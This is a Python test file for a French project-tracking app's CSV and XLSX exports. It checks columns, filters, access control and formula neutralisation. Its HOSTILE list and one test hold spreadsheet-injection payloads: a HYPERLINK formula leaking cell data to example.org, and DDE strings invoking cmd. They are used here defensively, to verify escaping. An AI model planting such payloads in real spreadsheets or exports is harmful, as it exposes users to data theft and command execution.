"""The project list's exports (CSV, XLSX): read back as a spreadsheet would, hostile names
neutralised, the list's filters applied, nothing exported to whoever may not."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine

from labelflow import dates
from labelflow.french import typeset
from labelflow.models import User
from labelflow.spreadsheets import dangerous, neutralise
from tests.conftest import make_user
from tests.factories import add_stakeholder, create_project, fire, walk_to
from tests.test_dashboard import count_statements

YES_NO = {True: "oui", False: "non"}
CSV_URL = "/api/v1/exports/projects.csv"
XLSX_URL = "/api/v1/exports/projects.xlsx"

# What a spreadsheet would run, open or follow if it read these as formulas.
HOSTILE = [
    '=HYPERLINK("https://example.org/vol?d="&A1,"Cliquez")',
    "+33 1 23 45 67 89",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def read_csv(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith('attachment; filename="projets-')
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the accents as UTF-8
    return list(csv.DictReader(io.StringIO(text[1:], newline=""), delimiter=";"))


def read_xlsx(response: Any) -> tuple[list[str], list[list[Any]], Any]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook["Projets"]
    rows = [list(r) for r in sheet.iter_rows()]
    header = [c.value for c in rows[0]]
    return header, rows[1:], sheet


def test_hostile_names_are_never_formulas(client: Any) -> None:
    stored = []
    for i, name in enumerate(HOSTILE):
        created = create_project(
            client,
            name=name,
            communes=[{"insee": f"5951{i}", "name": "=cmd|' /C calc'!A0"}],
            region="@Hauts-de-France",
        )
        stored.append(created["name"])  # as kept (surrounding blanks trimmed)
    assert all(dangerous(n) for n in stored)
    plain = create_project(client, name="Régie de quartier de l'Alma")

    rows = read_csv(client.get(CSV_URL))
    assert len(rows) == len(HOSTILE) + 1
    by_id = {int(r["Identifiant"]): r for r in rows}
    names = sorted(r["Projet"] for r in rows)
    assert names == sorted([*(f"'{n}" for n in stored), "Régie de quartier de l'Alma"])
    assert by_id[plain["id"]]["Projet"] == "Régie de quartier de l'Alma"
    for row in rows:
        for value in row.values():
            assert not dangerous(value), value  # every cell reads as text
        assert row["Région"] in ("'@Hauts-de-France", "Hauts-de-France")
        assert row["Communes (code INSEE)"].startswith(("'=cmd", "Roubaix (59512)"))

    header, data, sheet = read_xlsx(client.get(XLSX_URL))
    assert header[:3] == ["Identifiant", "Projet", "Type"]
    cells = [c for row in data for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    assert all(c.data_type != "f" for c in sheet[1])
    xlsx_names = {row[1].value: row[1] for row in data}
    # The text as typed, kept a string, marked so that Excel never turns it into a formula.
    assert set(xlsx_names) == {*stored, "Régie de quartier de l'Alma"}
    for name in stored:
        assert xlsx_names[name].data_type == "s"
        assert xlsx_names[name].quotePrefix
    assert not xlsx_names["Régie de quartier de l'Alma"].quotePrefix


def test_neutralise() -> None:
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("Saint-Denis") == "Saint-Denis"
    assert neutralise("") == ""
    assert neutralise("'=1") == "'=1"  # already text for a spreadsheet
    assert all(neutralise(h).startswith("'") for h in HOSTILE)


def test_a_row_tells_state_step_entries_deadlines_and_staff_in_charge(
    client: Any, staff_user: User
) -> None:
    created_at = datetime.now(UTC) - timedelta(days=100)
    with dates.frozen(created_at):
        project = create_project(client, kind="territoire")
    started = dates.paris_date(created_at)
    project = walk_to(client, project, "faisabilite")
    today = dates.today()

    [row] = read_csv(client.get(CSV_URL))
    assert row["Identifiant"] == str(project["id"])
    assert row["Projet"] == "Régie de territoire du Pays de Bray"
    assert row["Type"] == "Régie de Territoire"
    assert row["Communes (code INSEE)"] == "Forges-les-Eaux (76276), Gournay-en-Bray (76312)"
    assert (row["Région"], row["Département"]) == ("Normandie", "Seine-Maritime")
    assert (row["État"], row["Étape"]) == ("Étude de faisabilité", "2")
    assert (row["Suspendu"], row["En retard"]) == ("non", "non")
    assert row["Dans cet état depuis le"] == today.isoformat()
    assert row["Entrée à l'étape 1 : Groupe projet"] == started.isoformat()
    assert row["Entrée à l'étape 2 : Étude de faisabilité"] == today.isoformat()
    assert row["Entrée à l'étape 3 : Validation par les acteurs du territoire"] == ""
    # Faisabilité: 8 months from its entry; the label: 36 months from the start.
    assert row["Échéance de l'étape"] == dates.add_months(today, 8).isoformat()
    assert row["Date cible du label"] == dates.add_months(started, 36).isoformat()
    assert row["Chargé·e de suivi"] == staff_user.name == "Camille Roussel"
    assert (row["Numéro de label"], row["Date du label"]) == ("", "")
    assert row["Créé le"] == started.isoformat()
    # The forecast the project page shows (no past projects: the target durations).
    forecast = client.get(f"/api/v1/projects/{project['id']}").json()["forecast"]
    assert forecast["basis"] == "cibles"
    assert row["Label prévu le"] == forecast["label_on"]
    assert row["Prévision au plus tôt"] == forecast["low"]
    assert row["Prévision au plus tard"] == forecast["high"]
    assert row["Prévision fondée sur"] == "durées cibles"
    assert row["Prévision au-delà de la date cible"] == YES_NO[forecast["beyond_target"]]

    header, [xlsx_row], _sheet = read_xlsx(client.get(XLSX_URL))
    values = dict(zip(header, [c.value for c in xlsx_row], strict=True))
    assert values["Identifiant"] == project["id"]  # a number
    assert values["Étape"] == 2
    assert values["Entrée à l'étape 1 : Groupe projet"] == datetime(
        started.year, started.month, started.day
    )  # a date cell
    assert values["Entrée à l'étape 3 : Validation par les acteurs du territoire"] is None
    assert values["Chargé·e de suivi"] == "Camille Roussel"
    assert list(header) == list(read_csv(client.get(CSV_URL))[0])


def test_the_list_filters_select_the_rows(client: Any) -> None:
    alma = create_project(client, name="Alma")
    bray = create_project(client, kind="territoire", name="Bray")
    with dates.frozen(datetime.now(UTC) - timedelta(days=400)):
        late = create_project(client, name="Ancien", region="Île-de-France")
    add_stakeholder(client, alma["id"], "habitants")
    suspended = client.post(f"/api/v1/projects/{bray['id']}/suspend", json={"comment": "Pause."})
    assert suspended.status_code == 200

    def ids(**params: Any) -> set[int]:
        rows = read_csv(client.get(CSV_URL, params=params))
        listed = client.get("/api/v1/projects", params={**params, "limit": 200}).json()
        assert {i["id"] for i in listed["items"]} == {int(r["Identifiant"]) for r in rows}
        return {int(r["Identifiant"]) for r in rows}

    assert ids() == {alma["id"], bray["id"], late["id"]}
    assert ids(kind="territoire") == {bray["id"]}
    assert ids(region="ile-de-france") == {late["id"]}
    assert ids(overdue="true") == {late["id"]}
    assert ids(overdue="false") == {alma["id"], bray["id"]}
    assert ids(suspended="true") == {bray["id"]}
    assert ids(q="bray") == {bray["id"]}
    assert ids(state="groupe_projet", kind="quartier") == {alma["id"], late["id"]}
    xlsx = client.get(XLSX_URL, params={"kind": "territoire"})
    _header, data, _sheet = read_xlsx(xlsx)
    assert [row[0].value for row in data] == [bray["id"]]


def test_an_export_of_nothing_is_a_header_only_file(client: Any) -> None:
    create_project(client)
    for params in ({"q": "aucun projet ne porte ce nom"}, {"state": "labellisee"}):
        response = client.get(CSV_URL, params=params)
        assert read_csv(response) == []
        lines = response.content.decode("utf-8").split("\r\n")
        assert lines[0].startswith("\ufeffIdentifiant;Projet;Type;") and lines[1:] == [""]
        header, data, _sheet = read_xlsx(client.get(XLSX_URL, params=params))
        assert header[0] == "Identifiant" and data == []


@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL])
@pytest.mark.parametrize(
    ("params", "field", "message"),
    [
        ({"etat": "faisabilite"}, "etat", None),
        ({"limit": "10"}, "limit", None),
        ({"state": "inconnu"}, "state", None),
        (
            {"kind": "quartiers"},
            "kind",
            "Choisissez parmi : « quartier » (Régie de Quartier), « territoire » (Régie de "
            "Territoire).",
        ),
        ({"overdue": "peut-etre"}, "overdue", None),
        ({"staff_owner": "0"}, "staff_owner", None),
        ({"q": "x" * 201}, "q", None),
    ],
)
def test_a_bad_filter_is_refused_in_french(
    client: Any, url: str, params: dict[str, str], field: str, message: str | None
) -> None:
    create_project(client)
    response = client.get(url, params=params)
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert [f["field"] for f in error["fields"]] == [field]
    if field in ("etat", "limit"):
        assert error["code"] == "filtre_inconnu"
        assert error["message"].startswith(typeset(f"Filtre inconnu : « {field} »."))
        assert typeset("« state »") in error["message"]
    if message is not None:
        assert error["message"] == typeset(message)
    if field == "state":
        assert error["message"].startswith(typeset("État inconnu « inconnu » (états connus : "))
        assert "faisabilite" in error["message"]
    assert response.headers["content-type"].startswith("application/json")


@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL])
@pytest.mark.parametrize("role", ["porteur", "consultant", "bureau"])
def test_only_staff_export(
    client: Any, client_as: Any, db: Engine, anonymous: Any, url: str, role: str
) -> None:
    create_project(client)
    other = client_as(make_user(db, role=role))
    response = other.get(url)
    assert response.status_code == 403
    assert response.json()["error"]["code"] == "interdit"
    # The role is refused before the filters are read: nothing tells which filters exist.
    assert other.get(url, params={"nope": "1"}).status_code == 403
    staff = client_as(make_user(db, role="staff"))  # not an admin: staff export all the same
    assert staff.get(url).status_code == 200


def test_an_export_needs_a_signed_in_user(anonymous: Any) -> None:
    for url in (CSV_URL, XLSX_URL):
        assert anonymous.get(url).status_code == 401


def test_statements_do_not_grow_with_the_number_of_projects(client: Any, app: Any) -> None:
    create_project(client)
    with count_statements(app) as few_csv:
        read_csv(client.get(CSV_URL))
    with count_statements(app) as few_xlsx:
        read_xlsx(client.get(XLSX_URL))
    for i in range(15):
        project = create_project(client, name=f"Projet {i}")
        if i % 3 == 0:
            walk_to(client, project, "faisabilite")
    with count_statements(app) as many_csv:
        assert len(read_csv(client.get(CSV_URL))) == 16
    with count_statements(app) as many_xlsx:
        assert len(read_xlsx(client.get(XLSX_URL))[1]) == 16
    assert len(many_csv) == len(few_csv)
    assert len(many_xlsx) == len(few_xlsx)


def test_the_project_list_links_to_its_exports_with_its_filters(
    client: Any, client_as: Any, db: Engine
) -> None:
    create_project(client)
    html = client.get("/projects", params={"kind": "territoire", "overdue": "oui"}).text
    assert 'href="/api/v1/exports/projects.csv?kind=territoire&amp;overdue=true"' in html
    assert 'href="/api/v1/exports/projects.xlsx?kind=territoire&amp;overdue=true"' in html
    assert "Exporter en CSV" in html and "Exporter en XLSX" in html
    html = client.get("/projects").text
    assert 'href="/api/v1/exports/projects.csv"' in html
    porteur = make_user(db, role="porteur")
    porteur_client = client_as(porteur)
    assert "Exporter en CSV" not in porteur_client.get("/projects").text
    assert client.get("/api/v1/exports/projects.csv?kind=territoire&overdue=true").status_code == (
        200
    )


def test_a_closed_project_has_no_step_nor_step_deadline(client: Any) -> None:
    project = create_project(client)
    fire(client, project["id"], "abandonner", comment="Le projet s'arrête.")
    [row] = read_csv(client.get(CSV_URL))
    assert (row["État"], row["Étape"], row["Échéance de l'étape"]) == ("Projet abandonné", "", "")
    assert row["Dans cet état depuis le"] == dates.today().isoformat()
    assert row["Entrée à l'étape 1 : Groupe projet"] == dates.today().isoformat()
    assert row["Label prévu le"] == row["Prévision fondée sur"] == ""  # nothing to expect


def test_the_export_follows_the_list_order(client: Any) -> None:
    with dates.frozen(datetime.now(UTC) - timedelta(days=300)):
        oldest = create_project(client, name="Le plus ancien")
    create_project(client, name="Le plus récent")
    walk_to(client, oldest, "faisabilite")
    abandoned = create_project(client, name="Abandonné")
    fire(client, abandoned["id"], "abandonner", comment="Le projet s'arrête.")
    for sort in ("recent", "prevision"):
        rows = read_csv(client.get(CSV_URL, params={"sort": sort}))
        listed = client.get("/api/v1/projects", params={"sort": sort}).json()["items"]
        assert [int(r["Identifiant"]) for r in rows] == [i["id"] for i in listed]
    assert int(rows[-1]["Identifiant"]) == abandoned["id"]  # nothing expected: last
    assert client.get(CSV_URL, params={"sort": "nom"}).status_code == 422


def test_the_list_refuses_an_unknown_filter_too(client: Any) -> None:
    create_project(client)
    response = client.get("/api/v1/projects", params={"etat": "faisabilite", "limit": 10})
    assert response.status_code == 422
    error = response.json()["error"]
    assert error["code"] == "filtre_inconnu"
    assert [f["field"] for f in error["fields"]] == ["etat"]
    assert typeset("« limit »") in error["message"]  # the list's paging is accepted
    listed = client.get("/api/v1/projects", params={"kind": "quartier", "limit": 10, "offset": 0})
    assert listed.status_code == 200 and listed.json()["total"] == 1
